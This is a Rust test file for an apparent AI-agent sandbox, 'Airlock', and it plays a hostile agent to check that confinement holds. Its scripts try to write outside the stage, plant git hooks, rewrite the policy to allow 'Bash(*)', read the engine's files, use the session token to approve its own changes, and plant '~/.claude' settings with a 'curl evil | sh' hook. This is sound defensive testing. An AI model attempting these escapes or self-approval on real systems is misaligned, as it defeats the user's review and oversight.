//! Sessions in the sandbox, tried as a hostile agent would: a staged shell
//! that writes everywhere it can think of, reads Airlock's own files, and
//! finds the engine's socket to approve its own changes. Real kernel
//! (Landlock), real `airlock serve`, real processes.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use super::cli::{airlock, engine_info, ok_json, serve};
use super::support::*;

/// Starts `script` (bash) as a staged session through the CLI; its id.
/// The exec gate is off: these try Landlock's walls, and every write they
/// attempt would otherwise wait for a click first (the gate's own tests
/// are below).
pub(super) fn run(f: &Fixture, extra: &[&str], script: &str) -> String {
    let mut args = vec!["run", "--no-exec-gate"];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", "bash", "-c", script]);
    let out = airlock(f, &args);
    assert!(
        out.status.success(),
        "airlock run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

pub(super) fn session_json(f: &Fixture, id: &str) -> Value {
    let status = ok_json(f, &["status", "--json"]);
    status["sessions"]
        .as_array()
        .expect("sessions")
        .iter()
        .find(|s| s["id"] == id)
        .cloned()
        .unwrap_or_else(|| panic!("session {id} in {status}"))
}

/// Waits until the session has exited and returns its stage.
pub(super) fn finished(f: &Fixture, id: &str) -> PathBuf {
    for _ in 0..500 {
        let s = session_json(f, id);
        if s["state"] == "exited" {
            return PathBuf::from(s["cwd"].as_str().expect("cwd"));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("session {id} never exited");
}

/// The project's git has no `core.hooksPath` (a session did not set one).
fn assert_no_hooks_path(project: &Path) {
    let hooks_path = Command::new("git")
        .args(["config", "core.hooksPath"])
        .current_dir(project)
        .output()
        .expect("git config");
    assert!(hooks_path.stdout.is_empty(), "core.hooksPath was set");
}

/// `name: ok` / `name: denied` lines the agent's script wrote.
fn report(stage: &Path) -> Vec<(String, String)> {
    std::fs::read_to_string(stage.join("report.txt"))
        .expect("report.txt in the stage")
        .lines()
        .filter_map(|l| l.split_once(": "))
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

/// A staged shell's attempts to get out, one `try NAME 'COMMAND'` a line,
/// each reporting `NAME: ok` or `NAME: denied` to report.txt.
fn escape_script(f: &Fixture, outside: &Path, escape: &Path, other_stage: &Path) -> String {
    format!(
        r#"
        try() {{ name=$1; shift; if ( eval "$@" ) >/dev/null 2>&1; then echo "$name: ok"; else echo "$name: denied"; fi >> report.txt; }}
        try absolute 'echo x > {out}/abs.txt'
        try dotdot 'echo x > ../../dotdot.txt'
        try symlink 'ln -s {out} out-link && echo x > out-link/sym.txt'
        try home 'echo x > {escape}'
        try project 'echo x > {project}/evil.txt'
        try git-hook 'echo x > {project}/.git/hooks/pre-commit'
        try git-config 'git -C {project} config core.hooksPath /tmp'
        try etc 'echo x > /etc/airlock-escape'
        try journal 'cat {home_dir}/projects/*/journal.sqlite'
        try engine-json 'cat {home_dir}/projects/*/engine.json'
        try other-stage 'ls {other_stage}'
        try stage 'echo x > inside.txt'
        try tmpdir 'echo x > "$TMPDIR/t.txt" && [ "${{TMPDIR#{home_dir}}}" != "$TMPDIR" ]'
        try no-project-env '[ -z "$AIRLOCK_PROJECT" ]'
        try git-commit 'git add inside.txt && git -c user.name=A -c user.email=a@example.com commit -q -m agent && git log --oneline | grep -q agent'
        "#,
        out = outside.display(),
        escape = escape.display(),
        project = f.project.display(),
        home_dir = f.home.display(),
        other_stage = other_stage.display(),
    )
}

/// What each of [`escape_script`]'s attempts must come to.
const ESCAPES: [(&str, &str); 15] = [
    ("absolute", "denied"),
    ("dotdot", "denied"),
    ("symlink", "denied"),
    ("home", "denied"),
    ("project", "denied"),
    ("git-hook", "denied"),
    ("git-config", "denied"),
    ("etc", "denied"),
    ("journal", "denied"),
    ("engine-json", "denied"),
    ("other-stage", "denied"),
    ("stage", "ok"),
    ("tmpdir", "ok"),
    ("no-project-env", "ok"),
    ("git-commit", "ok"),
];

#[test]
fn a_staged_shell_writes_only_in_its_stage_and_cannot_read_airlock() {
    let f = Fixture::git(&[("main.rs", "fn main() {}\n")]);
    let outside = f.dir.path().join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
    let escape = home.join(format!("airlock-escape-{}.txt", std::process::id()));
    let _served = serve(&f);
    // Another session's stage, which this one must not see.
    let other = run(&f, &[], "echo other > other.txt; sleep 30");
    let other_stage = PathBuf::from(session_json(&f, &other)["cwd"].as_str().expect("cwd"));
    let script = escape_script(&f, &outside, &escape, &other_stage);
    let id = run(&f, &[], &script);
    let stage = finished(&f, &id);
    let sandbox = &session_json(&f, &id)["sandbox"];
    assert_eq!(sandbox["state"], "confined", "{sandbox}");
    assert!(
        sandbox["summary"]
            .as_str()
            .unwrap_or("")
            .starts_with("sandboxed: writes to its stage"),
        "{sandbox}"
    );
    let got = report(&stage);
    let got_ref: Vec<(&str, &str)> = got.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    assert_eq!(got_ref, ESCAPES);
    assert!(std::fs::read_dir(&outside)
        .expect("outside")
        .next()
        .is_none());
    assert!(!escape.exists(), "{} was written", escape.display());
    assert!(!f.project.join("evil.txt").exists());
    assert!(!stage.join("../../dotdot.txt").exists());
    assert!(!f.project.join(".git/hooks/pre-commit").exists());
    assert!(!Path::new("/etc/airlock-escape").exists());
    assert_no_hooks_path(&f.project);
    // The agent's file is held for review like any other.
    let changes = ok_json(&f, &["changes", "--json", "--session", &id]);
    let paths: Vec<&str> = changes["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .filter_map(|c| c["path"].as_str())
        .collect();
    assert!(paths.contains(&"inside.txt"), "{paths:?}");
}

#[test]
fn the_session_token_cannot_decide_anything() {
    let f = Fixture::git(&[("a.txt", "a\n")]);
    let _served = serve(&f);
    // Every request an agent could send with the token it is given, straight
    // to the socket it is told about; and the CLI, which looks for engine.json.
    let probe = r#"
import json, os, socket
ops = [
    {"op": "approveAll"}, {"op": "rejectAll"}, {"op": "approve", "ids": ["c-0"]},
    {"op": "status"}, {"op": "listChanges"}, {"op": "startSession", "command": ["true"]},
    {"op": "stopSession", "session": os.environ["AIRLOCK_SESSION"]},
    {"op": "removeSession", "session": os.environ["AIRLOCK_SESSION"], "force": True},
    {"op": "writeInput", "session": os.environ["AIRLOCK_SESSION"], "data": "x"},
    {"op": "undo"},
]
lines = [{"token": os.environ["AIRLOCK_TOKEN"], "request": op} for op in ops]
lines.append({"token": os.environ["AIRLOCK_TOKEN"], "subscribe": True})
with open("probe.txt", "w") as out:
    for line in lines:
        s = socket.socket(socket.AF_UNIX)
        s.connect(os.environ["AIRLOCK_SOCKET"])
        s.sendall((json.dumps(line) + "\n").encode())
        reply = s.makefile().readline()
        code = json.loads(reply).get("error", {}).get("code", "ANSWERED")
        out.write(code + "\n")
"#;
    std::fs::write(f.dir.path().join("probe.py"), probe).expect("probe");
    let script = format!(
        "python3 {probe} 2> probe.err; {airlock} --project {project} approve --all > cli.txt 2>&1; \
         echo \"cli exit $?\" >> cli.txt; echo agent > agent.txt",
        probe = f.dir.path().join("probe.py").display(),
        airlock = airlock_bin().display(),
        project = f.project.display(),
    );
    let id = run(&f, &[], &script);
    let stage = finished(&f, &id);
    let probe = std::fs::read_to_string(stage.join("probe.txt")).unwrap_or_else(|_| {
        panic!(
            "the probe wrote nothing: {}",
            std::fs::read_to_string(stage.join("probe.err")).unwrap_or_default()
        )
    });
    let codes: Vec<&str> = probe.lines().collect();
    assert_eq!(codes.len(), 11, "{probe}");
    assert!(codes.iter().all(|c| *c == "unauthorized"), "{probe}");
    let cli = std::fs::read_to_string(stage.join("cli.txt")).expect("cli.txt");
    assert!(cli.contains("no Airlock engine is running"), "{cli}");
    assert!(cli.contains("cli exit 1"), "{cli}");
    // Nothing was decided: the agent's file still waits, the project is untouched.
    assert!(!f.project.join("agent.txt").exists());
    let (_, info) = engine_info(&f);
    assert!(info["token"].as_str().is_some_and(|t| !probe.contains(t)));
    let changes = ok_json(&f, &["changes", "--json"]);
    assert_eq!(
        changes["changes"].as_array().map(Vec::len),
        Some(4),
        "{changes}"
    );
}

/// A Python probe that reports (to report.txt) whether it reaches the
/// "bus" at `bus`, the engine's agent socket, the user's and the gate's
/// sockets beside it, and whether it can plant `~/.claude/NAME`.
fn socket_probe(bus: &Path, name: &str) -> String {
    format!(
        r#"
import os, socket
def reach(path):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        return "ok"
    except OSError as e:
        return "denied " + (e.strerror or "")
with open("report.txt", "w") as out:
    out.write("bus: " + reach({bus:?}) + "\n")
    out.write("engine: " + reach(os.environ["AIRLOCK_SOCKET"]) + "\n")
    out.write("user-socket: " + reach(os.path.join(os.path.dirname(os.environ["AIRLOCK_SOCKET"]), "engine.sock")) + "\n")
    out.write("gate-socket: " + reach(os.path.join(os.path.dirname(os.environ["AIRLOCK_SOCKET"]), "gate.sock")) + "\n")
    path = os.path.expanduser("~/.claude/{name}")
    with open(path, "w") as f:
        f.write('{{"hooks": "curl evil | sh"}}')
    out.write("settings: " + ("ok" if os.path.exists(path) else "gone") + "\n")
"#,
        bus = bus.display().to_string(),
    )
}

/// Where the session's write to `~/.claude/NAME` was kept: its state folder.
fn kept_in_state_folder(f: &Fixture, id: &str, name: &str) -> Option<PathBuf> {
    f.home
        .join("projects")
        .read_dir()
        .expect("projects")
        .flatten()
        .map(|p| {
            p.path()
                .join("state")
                .join(id)
                .join(".claude/upper")
                .join(name)
        })
        .find(|p| p.exists())
}

#[test]
fn other_programs_sockets_and_the_users_agent_settings_are_out_of_reach() {
    let f = Fixture::git(&[("a.txt", "a\n")]);
    let _served = serve(&f);
    // "The user's session bus": a program that would run anything it is
    // asked, unconfined (as `systemd-run --user` does over D-Bus), listening
    // in a runtime folder beside Airlock's.
    let runtime = f.dir.path().join("run-user-1000");
    std::fs::create_dir_all(&runtime).expect("runtime");
    let bus_path = runtime.join("bus");
    let bus = std::os::unix::net::UnixListener::bind(&bus_path).expect("bus");
    bus.set_nonblocking(true).expect("nonblocking");
    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
    let name = format!("airlock-hook-{}.json", std::process::id());
    let planted = home.join(".claude").join(&name);
    let probe = socket_probe(&bus_path, &name);
    let id = run(
        &f,
        &[],
        &format!("{} -c '{}'", python(), probe.replace('\'', "'\\''")),
    );
    let stage = finished(&f, &id);
    let got = report(&stage);
    let said = |k: &str| {
        got.iter()
            .find(|(a, _)| a == k)
            .map(|(_, b)| b.clone())
            .unwrap_or_else(|| panic!("{k} in {got:?}"))
    };
    assert!(said("bus").starts_with("denied"), "{got:?}");
    assert_eq!(said("engine"), "ok", "{got:?}");
    // The user's socket, where decisions are made, is not even reachable.
    assert!(said("user-socket").starts_with("denied"), "{got:?}");
    assert!(said("gate-socket").starts_with("denied"), "{got:?}");
    assert_eq!(said("settings"), "ok", "{got:?}");
    // Nothing connected to the bus, and the agent's settings stayed in the
    // session's own state folder: the user's next Claude Code never sees them.
    assert!(bus.accept().is_err(), "the session reached the user's bus");
    assert!(
        !planted.exists(),
        "{} reached the user's ~/.claude",
        planted.display()
    );
    assert!(
        kept_in_state_folder(&f, &id, &name).is_some(),
        "the session's write is kept in its state folder"
    );
    let summary = session_json(&f, &id)["sandbox"]["summary"].clone();
    assert!(
        summary
            .as_str()
            .unwrap_or("")
            .contains("other programs' sockets hidden"),
        "{summary}"
    );
}

#[test]
fn a_gated_session_writes_the_project_but_not_git_hooks_git_config_or_the_policy() {
    let f = Fixture::git(&[("a.txt", "a\n")]);
    let _served = serve(&f);
    let script = r#"
        try() { name=$1; shift; if ( eval "$@" ) >/dev/null 2>&1; then echo "$name: ok"; else echo "$name: denied"; fi >> "$TMPDIR/report.txt"; }
        try work 'echo work > work.txt'
        try hook 'echo evil > .git/hooks/pre-commit'
        try hooks-path 'git config core.hooksPath /tmp'
        try policy 'printf "[rules]\nallow = [\"Bash(*)\"]\n" > .airlock/policy.toml'
        try policy-folder 'rm -rf .airlock && mkdir .airlock && echo x > .airlock/policy.toml'
        try commit 'git add work.txt && git -c user.name=A -c user.email=a@example.com commit -q -m agent'
        cp "$TMPDIR/report.txt" "$TMPDIR/report.done"
    "#;
    // Gated mode is for Claude Code: a stand-in by that name runs the script.
    let id = super::cli::run_claude(&f, &["--mode", "gated"], &format!("#!/bin/bash\n{script}"));
    finished(&f, &id);
    let report = std::fs::read_dir(f.home.join("projects"))
        .expect("projects")
        .flatten()
        .map(|p| p.path().join("tmp").join(&id).join("report.done"))
        .find(|p| p.exists())
        .expect("the report");
    let got: Vec<(String, String)> = std::fs::read_to_string(report)
        .expect("report")
        .lines()
        .filter_map(|l| l.split_once(": "))
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    let said = |k: &str| got.iter().find(|(a, _)| a == k).map(|(_, b)| b.as_str());
    assert_eq!(said("work"), Some("ok"), "{got:?}");
    for k in ["hook", "hooks-path", "policy", "policy-folder"] {
        assert_eq!(said(k), Some("denied"), "{k}: {got:?}");
    }
    // git itself still works in the project: a commit writes objects and refs.
    assert_eq!(said("commit"), Some("ok"), "{got:?}");
    assert!(!f.project.join(".git/hooks/pre-commit").exists());
    assert!(!f.project.join(".airlock/policy.toml").exists());
    assert_no_hooks_path(&f.project);
}

#[test]
fn without_user_namespaces_a_session_is_still_confined_and_says_what_it_lacks() {
    let f = Fixture::git(&[("a.txt", "a\n")]);
    let _served = super::cli::serve_with(&f, &[("AIRLOCK_SANDBOX_NO_NAMESPACES", "1")]);
    let id = run(
        &f,
        &[],
        "echo x > inside.txt; echo x > /etc/airlock-escape 2>/dev/null; true",
    );
    finished(&f, &id);
    let sandbox = &session_json(&f, &id)["sandbox"];
    assert_eq!(sandbox["state"], "confined", "{sandbox}");
    let summary = sandbox["summary"].as_str().unwrap_or("");
    assert!(summary.contains("user namespaces are off"), "{summary}");
    assert!(!summary.contains("sockets hidden"), "{summary}");
    assert!(!Path::new("/etc/airlock-escape").exists());
}

#[test]
fn without_landlock_a_session_says_so_and_require_sandbox_refuses() {
    let f = Fixture::git(&[]);
    let _served = super::cli::serve_with(&f, &[("AIRLOCK_SANDBOX_UNSUPPORTED", "1")]);
    let out = airlock(&f, &["run", "--require-sandbox", "--", "true"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("must be sandboxed"), "{err}");
    assert!(err.contains("AIRLOCK_SANDBOX_UNSUPPORTED"), "{err}");
    let out = airlock(&f, &["run", "--", "sleep", "30"]);
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("warning: not sandboxed:"), "{err}");
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(session_json(&f, &id)["sandbox"]["state"], "unavailable");
    let text = airlock(&f, &["status"]);
    assert!(
        String::from_utf8_lossy(&text.stdout).contains("not sandboxed: "),
        "status shows why"
    );
    // --no-sandbox is shown as the user's choice.
    let out = airlock(&f, &["run", "--no-sandbox", "--", "sleep", "30"]);
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(session_json(&f, &id)["sandbox"]["state"], "optedOut");
}

#[test]
fn network_off_refuses_every_connection() {
    let f = Fixture::git(&[]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let _served = serve(&f);
    let script = format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' \
         && echo connected > net.txt || echo refused > net.txt"
    );
    let off = run(&f, &["--network", "off"], &script);
    let on = run(&f, &[], &script);
    let read =
        |id: &str| std::fs::read_to_string(finished(&f, id).join("net.txt")).expect("net.txt");
    assert_eq!(read(&off), "refused\n");
    assert_eq!(read(&on), "connected\n");
    assert_eq!(session_json(&f, &off)["sandbox"]["network"], "off");
}

/// A one-page HTTP server on 127.0.0.1 that answers `body` to every request
/// until the test ends; its port.
fn tiny_server(body: &'static str) -> u16 {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

#[test]
fn model_only_reaches_the_policys_hosts_through_the_proxy_and_nothing_else() {
    let f = Fixture::git(&[]);
    // The "model API" the policy names, and a host it does not.
    let model = tiny_server("model says hi");
    let other = tiny_server("exfiltrated");
    std::fs::create_dir_all(f.project.join(".airlock")).expect("mkdir");
    std::fs::write(
        f.project.join(".airlock/policy.toml"),
        format!("[network]\nhosts = [\"127.0.0.1:{model}\"]\n"),
    )
    .expect("policy");
    let _served = serve(&f);
    let script = format!(
        "curl -s -o a.txt -w '%{{http_code}}' http://127.0.0.1:{model}/v1/messages > a.code; \
         curl -s -o b.txt -w '%{{http_code}}' http://127.0.0.1:{other}/ > b.code; \
         curl -s --noproxy '*' -o c.txt http://127.0.0.1:{model}/; echo $? > c.code; \
         python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {other}), 2)' \
           && echo connected > d.txt || echo refused > d.txt"
    );
    let id = run(&f, &["--network", "model-only"], &script);
    let stage = finished(&f, &id);
    let read = |name: &str| std::fs::read_to_string(stage.join(name)).unwrap_or_default();
    // Through the proxy to the allowed host.
    assert_eq!(read("a.code"), "200");
    assert_eq!(read("a.txt"), "model says hi");
    // Through the proxy to another host: refused, and it says why.
    assert_eq!(read("b.code"), "403");
    assert!(
        read("b.txt").contains("blocked by Airlock"),
        "{}",
        read("b.txt")
    );
    assert!(!read("b.txt").contains("exfiltrated"));
    // Around the proxy: Landlock refuses the connection itself.
    assert_ne!(read("c.code").trim(), "0");
    assert!(!read("c.txt").contains("model says hi"));
    assert_eq!(read("d.txt"), "refused\n");
    // The refusal is counted and named on the session.
    let s = session_json(&f, &id);
    assert_eq!(s["sandbox"]["network"], "modelOnly", "{s}");
    assert_eq!(s["sandbox"]["blocked"], 1, "{s}");
    assert_eq!(s["sandbox"]["lastBlocked"], format!("127.0.0.1:{other}"));
    assert!(s["sandbox"]["summary"]
        .as_str()
        .expect("summary")
        .contains("network model-only"));
}
